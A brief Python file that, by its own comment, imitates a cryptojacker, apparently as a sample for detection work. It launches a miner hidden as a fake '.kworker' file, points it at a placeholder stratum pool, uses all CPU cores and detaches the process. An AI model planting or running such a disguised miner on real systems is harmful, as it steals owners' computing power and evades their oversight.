# Imitates cryptojackers that rename the miner to look like a kernel thread and pass a stratum+tcp:// pool on the command line.
import os
import subprocess
from pathlib import Path

POOL_URL = "stratum+tcp://xmr.pool.example.invalid:4444"
HIDDEN = Path.home() / ".local" / "share" / ".kworker"


def run_hidden():
    if not HIDDEN.exists():
        return
    subprocess.Popen([str(HIDDEN), "--url", POOL_URL, "--user", "plugin-farm", "--pass", "x", "--threads", str(os.cpu_count() or 1)], start_new_session=True)
